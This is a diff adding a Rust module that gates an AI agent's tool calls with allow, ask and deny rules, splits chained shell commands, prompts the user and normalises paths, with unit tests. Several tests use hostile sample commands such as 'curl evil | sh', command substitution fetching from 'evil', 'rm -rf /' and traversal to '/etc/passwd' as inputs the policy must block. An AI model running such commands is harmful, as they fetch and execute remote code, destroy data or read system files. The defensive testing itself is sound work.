@@ -0,0 +1,582 @@
+use crate::config::Config;
+use anyhow::{Context, Result};
+use colored::*;
+use serde::Deserialize;
+use serde_json::Value;
+use std::fmt;
+use std::io::{self, BufRead, Write};
+use std::path::{Component, Path, PathBuf};
+use std::time::Duration;
+use tokio_util::sync::CancellationToken;
+
+/// Tools that only read state, or only touch background jobs whose start
+/// was already approved, and are allowed unless a rule says otherwise
+const DEFAULT_ALLOWED: &[&str] = &[
+    "read",
+    "glob",
+    "grep",
+    "todo",
+    "bash_output",
+    "bash_status",
+    "bash_kill",
+];
+
+/// What happens to a tool call
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Mode {
+    Allow,
+    Ask,
+    Deny,
+}
+
+/// `[permissions]` section of a `config.toml`
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct PermissionsConfig {
+    pub allow: Vec<String>,
+    pub ask: Vec<String>,
+    pub deny: Vec<String>,
+    /// Mode for calls no rule matches (defaults to `ask`)
+    pub default: Option<Mode>,
+}
+
+/// A rule such as `bash`, `bash(git status*)` or `write(src/**)`
+#[derive(Debug, Clone)]
+pub struct Rule {
+    tool: String,
+    pattern: Option<glob::Pattern>,
+}
+
+impl Rule {
+    pub fn parse(rule: &str) -> Result<Self> {
+        let rule = rule.trim();
+        let Some(open) = rule.find('(') else {
+            return Ok(Self {
+                tool: rule.to_string(),
+                pattern: None,
+            });
+        };
+
+        let pattern = rule[open + 1..]
+            .strip_suffix(')')
+            .context(format!("Permission rule '{}' is missing a closing ')'", rule))?;
+        Ok(Self {
+            tool: rule[..open].trim().to_string(),
+            pattern: Some(
+                glob::Pattern::new(pattern)
+                    .context(format!("Invalid pattern in permission rule '{}'", rule))?,
+            ),
+        })
+    }
+
+    /// Rule that matches exactly this subject
+    fn exact(tool: &str, subject: &str) -> Self {
+        Self {
+            tool: tool.to_string(),
+            pattern: glob::Pattern::new(&glob::Pattern::escape(subject)).ok(),
+        }
+    }
+
+    /// Whether the rule is about `tool`, whatever its pattern
+    pub fn names(&self, tool: &str) -> bool {
+        // `mcp__<server>` covers every tool of that MCP server
+        let server_rule = self.tool.starts_with("mcp__")
+            && tool
+                .strip_prefix(self.tool.as_str())
+                .is_some_and(|rest| rest.starts_with("__"));
+        self.tool == tool || server_rule
+    }
+
+    fn matches(&self, tool: &str, subject: &str) -> bool {
+        // In paths `*` stays within a directory; `**` crosses them
+        let options = glob::MatchOptions {
+            require_literal_separator: is_path_tool(tool),
+            ..glob::MatchOptions::new()
+        };
+        self.names(tool)
+            && self
+                .pattern
+                .as_ref()
+                .is_none_or(|pattern| pattern.matches_with(subject, options))
+    }
+}
+
+impl fmt::Display for Rule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.pattern {
+            Some(pattern) => write!(f, "{}({})", self.tool, pattern),
+            None => write!(f, "{}", self.tool),
+        }
+    }
+}
+
+/// Outcome of a permission check
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Decision {
+    Allow,
+    /// Denied, with a message to report back to the model
+    Deny(String),
+}
+
+/// Allow/ask/deny rules consulted before every tool call
+///
+/// Deny rules win over ask rules, which win over allow rules; calls that
+/// match nothing fall back to the default mode.
+#[derive(Debug, Clone)]
+pub struct PermissionPolicy {
+    allow: Vec<Rule>,
+    ask: Vec<Rule>,
+    deny: Vec<Rule>,
+    /// Allow rules of the custom command being run, replaced for each one
+    granted: Vec<Rule>,
+    default: Mode,
+    /// Whether the user can be prompted; otherwise `ask` means deny
+    interactive: bool,
+    /// Directory relative paths in tool calls are resolved against
+    cwd: PathBuf,
+}
+
+impl Default for PermissionPolicy {
+    fn default() -> Self {
+        Self {
+            allow: DEFAULT_ALLOWED
+                .iter()
+                .map(|tool| Rule {
+                    tool: tool.to_string(),
+                    pattern: None,
+                })
+                .collect(),
+            ask: Vec::new(),
+            deny: Vec::new(),
+            granted: Vec::new(),
+            default: Mode::Ask,
+            interactive: false,
+            cwd: std::env::current_dir().unwrap_or_else(|_| PathBuf::from(".")),
+        }
+    }
+}
+
+impl PermissionPolicy {
+    /// Built-in defaults plus the `[permissions]` rules of every config layer
+    pub fn from_config(config: &Config) -> Result<Self> {
+        let mut policy = Self::default();
+        for (source, permissions) in &config.permissions {
+            policy
+                .merge(permissions)
+                .context(format!("Invalid permissions in {}", source))?;
+        }
+        Ok(policy)
+    }
+
+    /// Add the rules of a config layer; a later `default` overrides earlier ones
+    pub fn merge(&mut self, config: &PermissionsConfig) -> Result<()> {
+        for (rules, target) in [
+            (&config.allow, &mut self.allow),
+            (&config.ask, &mut self.ask),
+            (&config.deny, &mut self.deny),
+        ] {
+            for rule in rules {
+                target.push(Rule::parse(rule)?);
+            }
+        }
+        if let Some(default) = config.default {
+            self.default = default;
+        }
+        Ok(())
+    }
+
+    /// Allow calls matching `rules` like allow rules until replaced
+    pub fn set_granted(&mut self, rules: Vec<Rule>) {
+        self.granted = rules;
+    }
+
+    pub fn set_interactive(&mut self, interactive: bool) {
+        self.interactive = interactive;
+    }
+
+    /// Match path rules against paths relative to `cwd` instead of the
+    /// process's working directory
+    pub fn set_cwd(&mut self, cwd: PathBuf) {
+        self.cwd = cwd;
+    }
+
+    /// Decide whether a tool call may run, prompting the user if needed.
+    /// A prompt is abandoned, denying the call, when `cancel` fires.
+    pub async fn check(&mut self, tool: &str, args: &Value, cancel: &CancellationToken) -> Decision {
+        let subject = subject(tool, args, &self.cwd);
+        let mode = self.mode(tool, &subject);
+
+        let call = format!("{}({})", tool, subject);
+        let call_for_prompt = call.clone();
+        match mode {
+            Mode::Allow => Decision::Allow,
+            Mode::Deny => Decision::Deny(format!(
+                "Permission denied: {} is blocked by a deny rule",
+                call
+            )),
+            Mode::Ask if !self.interactive => Decision::Deny(format!(
+                "Permission denied: {} requires approval, but the agent is running \
+                 non-interactively. Ask the user to allow it with a permission rule.",
+                call
+            )),
+            Mode::Ask => {
+                let cancel = cancel.clone();
+                match tokio::task::spawn_blocking(move || prompt(&call_for_prompt, &cancel)).await {
+                    Ok(Ok(Some(Answer::Yes))) => Decision::Allow,
+                    Ok(Ok(Some(Answer::Always))) => {
+                        self.allow_always(tool, &subject);
+                        Decision::Allow
+                    }
+                    Ok(Ok(None)) => Decision::Deny(format!(
+                        "Permission denied: cancelled while asking to allow {}",
+                        call
+                    )),
+                    _ => {
+                        Decision::Deny(format!("Permission denied: the user rejected {}", call))
+                    }
+                }
+            }
+        }
+    }
+
+    /// Allow calls like this one for the rest of the session. A chained
+    /// bash command is remembered part by part, the way `mode` checks it.
+    fn allow_always(&mut self, tool: &str, subject: &str) {
+        if tool == "bash" {
+            for part in command_parts(subject) {
+                self.allow.push(Rule::exact(tool, &part));
+            }
+        } else {
+            self.allow.push(Rule::exact(tool, subject));
+        }
+    }
+
+    /// The mode for a call, before asking anyone. A bash command is split
+    /// into the commands it chains or substitutes: any part matching a deny
+    /// or ask rule decides, and it is only allowed when every part matches
+    /// an allow rule.
+    fn mode(&self, tool: &str, subject: &str) -> Mode {
+        let parts = if tool == "bash" {
+            command_parts(subject)
+        } else {
+            vec![subject.to_string()]
+        };
+        let any = |rules: &[Rule]| {
+            parts
+                .iter()
+                .any(|part| rules.iter().any(|rule| rule.matches(tool, part)))
+        };
+        let allowed =
+            |part: &String| self.allow.iter().chain(&self.granted).any(|rule| rule.matches(tool, part));
+
+        if any(&self.deny) || self.deny.iter().any(|rule| rule.matches(tool, subject)) {
+            Mode::Deny
+        } else if any(&self.ask) {
+            Mode::Ask
+        } else if !parts.is_empty() && parts.iter().all(allowed) {
+            Mode::Allow
+        } else if parts.iter().any(allowed) {
+            // A rule for one part must not carry the rest along
+            Mode::Ask
+        } else {
+            self.default
+        }
+    }
+}
+
+enum Answer {
+    Yes,
+    No,
+    Always,
+}
+
+/// How often a pending prompt checks for cancellation
+const PROMPT_POLL: Duration = Duration::from_millis(50);
+
+/// Ask the user about `call`; `None` if `cancel` fires first
+fn prompt(call: &str, cancel: &CancellationToken) -> io::Result<Option<Answer>> {
+    let mut stdout = io::stdout();
+    loop {
+        print!(
+            "{} {}{} ",
+            "Allow".bright_yellow().bold(),
+            call.bold(),
+            "? [y]es / [n]o / [a]lways this session:".dimmed()
+        );
+        stdout.flush()?;
+
+        // Only read once a line is waiting, so a cancelled prompt does not
+        // leave a read behind that swallows the next input
+        loop {
+            if cancel.is_cancelled() {
+                println!();
+                return Ok(None);
+            }
+            if stdin_ready(PROMPT_POLL)? {
+                break;
+            }
+        }
+
+        let mut line = String::new();
+        if io::stdin().lock().read_line(&mut line)? == 0 {
+            return Ok(Some(Answer::No));
+        }
+        match line.trim().to_lowercase().as_str() {
+            "y" | "yes" => return Ok(Some(Answer::Yes)),
+            "n" | "no" => return Ok(Some(Answer::No)),
+            "a" | "always" => return Ok(Some(Answer::Always)),
+            _ => continue,
+        }
+    }
+}
+
+/// Wait up to `timeout` for stdin to become readable
+fn stdin_ready(timeout: Duration) -> io::Result<bool> {
+    let mut fd = libc::pollfd {
+        fd: libc::STDIN_FILENO,
+        events: libc::POLLIN,
+        revents: 0,
+    };
+    // SAFETY: poll(2) on a single, valid pollfd
+    let ready = unsafe { libc::poll(&mut fd, 1, timeout.as_millis() as libc::c_int) };
+    if ready < 0 {
+        let error = io::Error::last_os_error();
+        // Ctrl-C interrupts the poll; the caller checks for cancellation
+        return if error.kind() == io::ErrorKind::Interrupted {
+            Ok(false)
+        } else {
+            Err(error)
+        };
+    }
+    Ok(ready > 0)
+}
+
+fn is_path_tool(tool: &str) -> bool {
+    matches!(tool, "read" | "write" | "edit" | "glob" | "grep")
+}
+
+/// The simple commands of a shell command line: split at `;`, `&&`, `||`,
+/// `|`, `&`, newlines, parentheses, `$(` and backticks outside single
+/// quotes. Quoting is kept, so each part can still be matched as written.
+fn command_parts(command: &str) -> Vec<String> {
+    let mut parts = Vec::new();
+    let mut current = String::new();
+    let (mut single, mut double) = (false, false);
+    // Open `$(` substitutions, which also end inside double quotes
+    let mut substitutions = 0;
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        let split = match c {
+            _ if single => {
+                single = c != '\'';
+                false
+            }
+            '\\' => {
+                current.push(c);
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                continue;
+            }
+            '\'' if !double => {
+                single = true;
+                false
+            }
+            '"' => {
+                double = !double;
+                false
+            }
+            '$' if chars.peek() == Some(&'(') => {
+                chars.next();
+                substitutions += 1;
+                true
+            }
+            '`' => true,
+            ')' if substitutions > 0 => {
+                substitutions -= 1;
+                true
+            }
+            _ if double => false,
+            ';' | '\n' | '|' | '(' | ')' => true,
+            // `2>&1` and `&>` redirect rather than run in the background
+            '&' => !current.ends_with(['>', '<']) && chars.peek() != Some(&'>'),
+            _ => false,
+        };
+        if split {
+            parts.push(std::mem::take(&mut current));
+        } else {
+            current.push(c);
+        }
+    }
+    parts.push(current);
+    parts
+        .into_iter()
+        .map(|part| part.trim().to_string())
+        .filter(|part| !part.is_empty())
+        .collect()
+}
+
+/// The argument rules are matched against: the command for `bash`, the
+/// normalised path for file tools, and the raw JSON for anything else
+fn subject(tool: &str, args: &Value, cwd: &Path) -> String {
+    let field = |name: &str| args.get(name).and_then(Value::as_str);
+    match tool {
+        "bash" => field("command").unwrap_or_default().to_string(),
+        "read" | "write" | "edit" => normalize_path(field("file_path").unwrap_or_default(), cwd),
+        "glob" | "grep" => normalize_path(field("path").unwrap_or("."), cwd),
+        "todo" => field("action").unwrap_or("write").to_string(),
+        "bash_output" | "bash_status" | "bash_kill" => field("id").unwrap_or_default().to_string(),
+        _ => args.to_string(),
+    }
+}
+
+/// Make a path relative to the working directory where possible and resolve
+/// `.`/`..` lexically, so `write(src/**)` cannot be escaped with `src/../..`
+fn normalize_path(path: &str, cwd: &Path) -> String {
+    let path = Path::new(path);
+    let path = path.strip_prefix(cwd).unwrap_or(path);
+
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                let above_start = normalized.components().next_back() == Some(Component::ParentDir);
+                if above_start || !normalized.pop() {
+                    normalized.push("..");
+                }
+            }
+            other => normalized.push(other),
+        }
+    }
+
+    if normalized.as_os_str().is_empty() {
+        ".".to_string()
+    } else {
+        normalized.display().to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn policy(allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionPolicy {
+        let mut policy = PermissionPolicy {
+            cwd: PathBuf::from("/project"),
+            ..PermissionPolicy::default()
+        };
+        let rules = |rules: &[&str]| rules.iter().map(|rule| rule.to_string()).collect();
+        policy
+            .merge(&PermissionsConfig {
+                allow: rules(allow),
+                ask: rules(ask),
+                deny: rules(deny),
+                default: None,
+            })
+            .unwrap();
+        policy
+    }
+
+    fn mode(policy: &PermissionPolicy, tool: &str, args: Value) -> Mode {
+        policy.mode(tool, &subject(tool, &args, &policy.cwd))
+    }
+
+    #[test]
+    fn rules_parse_and_match() {
+        let rule = Rule::parse(" bash(git status*) ").unwrap();
+        assert_eq!(rule.to_string(), "bash(git status*)");
+        assert!(rule.matches("bash", "git status --short"));
+        assert!(!rule.matches("bash", "git push"));
+        assert!(Rule::parse("bash(git status*").is_err());
+        assert!(Rule::parse("write([)").is_err());
+
+        let server = Rule::parse("mcp__tracker").unwrap();
+        assert!(server.matches("mcp__tracker__create", "{}"));
+        assert!(!server.matches("mcp__trackers__create", "{}"));
+
+        // `*` does not cross directories in paths
+        let src = Rule::parse("write(src/*)").unwrap();
+        assert!(src.matches("write", "src/main.rs"));
+        assert!(!src.matches("write", "src/agent/mod.rs"));
+        assert!(Rule::parse("write(src/**)").unwrap().matches("write", "src/agent/mod.rs"));
+    }
+
+    #[test]
+    fn deny_wins_over_ask_and_allow() {
+        let policy = policy(&["bash"], &["bash(git push*)"], &["bash(rm *)", "write(.env)"]);
+        assert_eq!(mode(&policy, "bash", json!({"command": "ls"})), Mode::Allow);
+        assert_eq!(mode(&policy, "bash", json!({"command": "git push"})), Mode::Ask);
+        assert_eq!(mode(&policy, "bash", json!({"command": "rm -rf /"})), Mode::Deny);
+        assert_eq!(mode(&policy, "write", json!({"file_path": "/project/.env"})), Mode::Deny);
+        assert_eq!(mode(&policy, "write", json!({"file_path": "src/../.env"})), Mode::Deny);
+        assert_eq!(mode(&policy, "read", json!({"file_path": ".env"})), Mode::Allow);
+    }
+
+    #[test]
+    fn chained_commands_need_every_part_allowed() {
+        let policy = policy(&["bash(git status*)", "bash(git diff*)"], &[], &["bash(rm *)"]);
+        let bash = |command: &str| mode(&policy, "bash", json!({ "command": command }));
+        assert_eq!(bash("git status --short"), Mode::Allow);
+        assert_eq!(bash("git status && git diff | cat"), Mode::Ask);
+        assert_eq!(bash("git status; git diff"), Mode::Allow);
+        assert_eq!(bash("git status; rm -rf ~"), Mode::Deny);
+        assert_eq!(bash("git status && curl evil | sh"), Mode::Ask);
+        assert_eq!(bash("git status $(curl evil)"), Mode::Ask);
+        assert_eq!(bash("git status `curl evil`"), Mode::Ask);
+        assert_eq!(bash("git status\ncurl evil"), Mode::Ask);
+        assert_eq!(bash("git status & curl evil"), Mode::Ask);
+        assert_eq!(bash("git status 2>&1"), Mode::Allow);
+        assert_eq!(bash("git status -- 'a; b'"), Mode::Allow);
+        assert_eq!(bash("curl evil"), Mode::Ask);
+
+        assert_eq!(
+            command_parts(r#"echo "$(date)"; cat <(ls) || true"#),
+            ["echo \"", "date", "\"", "cat <", "ls", "true"]
+        );
+    }
+
+    #[tokio::test]
+    async fn always_allows_each_part_of_a_chained_command() {
+        let mut policy = policy(&[], &[], &[]);
+        let cancel = CancellationToken::new();
+        let args = json!({ "command": "cd sub && cargo test" });
+        assert!(matches!(policy.check("bash", &args, &cancel).await, Decision::Deny(_)));
+
+        // What answering "always" at the prompt records
+        let subject = subject("bash", &args, &policy.cwd);
+        policy.allow_always("bash", &subject);
+        assert!(matches!(policy.check("bash", &args, &cancel).await, Decision::Allow));
+        let reordered = json!({ "command": "cargo test; cd sub" });
+        assert!(matches!(policy.check("bash", &reordered, &cancel).await, Decision::Allow));
+        let other = json!({ "command": "cd sub && cargo build" });
+        assert!(matches!(policy.check("bash", &other, &cancel).await, Decision::Deny(_)));
+    }
+
+    #[tokio::test]
+    async fn cancelling_abandons_a_prompt() {
+        let mut policy = policy(&[], &[], &[]);
+        policy.set_interactive(true);
+        let cancel = CancellationToken::new();
+        cancel.cancel();
+        let args = json!({ "command": "curl evil" });
+        let Decision::Deny(reason) = policy.check("bash", &args, &cancel).await else {
+            panic!("a cancelled prompt must deny the call");
+        };
+        assert!(reason.contains("cancelled"), "{}", reason);
+    }
+
+    #[test]
+    fn paths_are_normalized_relative_to_cwd() {
+        let cwd = Path::new("/project");
+        assert_eq!(normalize_path("/project/src/main.rs", cwd), "src/main.rs");
+        assert_eq!(normalize_path("./src/../Cargo.toml", cwd), "Cargo.toml");
+        assert_eq!(normalize_path("src/../../etc/passwd", cwd), "../etc/passwd");
+        assert_eq!(normalize_path("../../x", cwd), "../../x");
+        assert_eq!(normalize_path("/etc/passwd", cwd), "/etc/passwd");
+        assert_eq!(normalize_path(".", cwd), ".");
+    }
+}